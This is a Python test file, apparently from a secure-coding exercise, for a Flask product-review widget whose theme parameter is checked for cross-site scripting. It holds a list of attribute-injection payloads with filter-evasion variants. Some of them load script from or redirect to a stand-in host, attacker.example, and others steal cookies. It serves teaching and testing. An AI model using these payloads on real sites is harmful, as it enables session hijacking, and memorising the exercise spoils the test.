from flask import Flask
from page import scripts_of, tags_of


def ask(code, author="Ada", product="lamp-3", **query):
    lamp = code.Product("lamp-3", "Lamp <3>", [code.Review(author, 4, "<i>It's</i> bright")])

    class Products:
        def find(self, key):
            return lamp if key == "lamp-3" else None

    app = Flask("shop")
    code.add_review_widget(app, Products())
    client = app.test_client()
    return client.get(f"/widgets/reviews/{product}", query_string=query)


def open_page(*args, **query):
    return ask(*args, **query).get_data(as_text=True)


def works(code, vary):
    theme = f"{vary.word()}-{vary.pick(['dark', 'light', 'wide'])}"
    lang = vary.pick(["de", "fr", "pl"])
    author = f"{vary.name()} \"{vary.name()}\" O'{vary.name()}"
    html = open_page(code, author, theme=theme, lang=lang)
    tags = {tag["name"]: tag for tag in tags_of(html)}
    assert tags["body"]["attributes"] == {"class": theme}, f"The theme {theme} should be the class of the body."
    assert tags["html"]["attributes"] == {"lang": lang}, f"The language {lang} should be named in the page."
    assert tags["b"]["text"] == author, f"The name {author} should be shown as it is."
    assert tags["blockquote"]["text"] == "<i>It's</i> bright", "The text of a review should be shown as it is."
    assert tags["a"]["text"] == "Lamp <3>", "The link should show the name of the product."
    plain = open_page(code, lang="x onload=y")
    assert scripts_of(plain) == [], "A language that does not exist should be replaced by English."
    classes = [tag["attributes"]["class"] for tag in tags_of(plain) if tag["name"] == "body"]
    assert classes == ["light"], "Without a theme the class should be light."
    missing = ask(code, author, vary.word(), theme=theme)
    assert missing.status_code == 404, "A product that does not exist should be answered with 404."


def forms_of(script):
    return (
        f"dark onload={script}",
        f"dark\tonload={script}",
        f"dark\nonload={script}",
        f"dark\ronload={script}",
        f"dark\fonload={script}",
        f"dark onpageshow={script}",
        f"dark OnLoad={script}",
        # Space around the equals sign, and what is left when a pattern is removed once.
        f"dark onload ={script}",
        f"dark onload\t=\n{script}",
        f"dark oonx=nload={script}",
        f"dark ononload=load={script}",
        f"dark onloonload=ad={script}",
        f"dark onpointerenter={script}",
        f"dark onhashchange={script}",
        f"dark' onload='{script}",
        f'dark" onload="{script}',
        f"dark'\fonload='{script}",
        f"><svg onload={script}>",
        f"'><svg onload={script}>",
    )


# Scripts with and without quotes, brackets and parentheses: `name` is what the page with the link has put into the window's name.
WANTED = ("import(`//attacker.example/", "location=name", "location=`//attacker.example/")


def exploit(code, vary, payloads=None):
    if payloads is None:
        # Every form with one script, and a few forms with those that need fewer signs.
        payloads = list(forms_of(f"import(`//attacker.example/{vary.word()}`)"))
        for script in ("location=name", f"location=`//attacker.example/{vary.word()}`"):
            payloads += forms_of(script)[::3]
    for theme in payloads:
        for script in scripts_of(open_page(code, theme=theme)):
            if script.startswith(WANTED):
                return {"sent": f"theme={theme!r}", "got": f"The browser runs {script} with the customer's session"}
    return False


# Attack mode: the learner writes the input.
def attack(code, input, vary):
    lamp = code.Product("lamp-3", "Lamp", [code.Review(vary.name(), 4, "Bright")])

    class Shelf:
        def find(self, key):
            return lamp if key == "lamp-3" else None

    try:
        app = Flask("shop")
        code.add_review_widget(app, Shelf())
        answer = app.test_client().get("/widgets/reviews/lamp-3", query_string={"theme": input["theme"]})
        html = answer.get_data(as_text=True)
    except Exception as error:
        return {"isDone": False, "shown": f"{type(error).__name__}: {error}"}
    scripts = scripts_of(html)
    lines = [f"The browser runs: {script}" for script in scripts] or ["Nothing in this page runs a script."]
    return {"isDone": bool(scripts), "shown": "\n".join([html, "", *lines])}


ATTACKS = [
    {"input": {"theme": "dark onload=alert(document.cookie)"}, "isDone": True},
    {"input": {"theme": "dark"}, "isDone": False},
    {"input": {"theme": "<script>alert(1)</script>"}, "isDone": False},
]
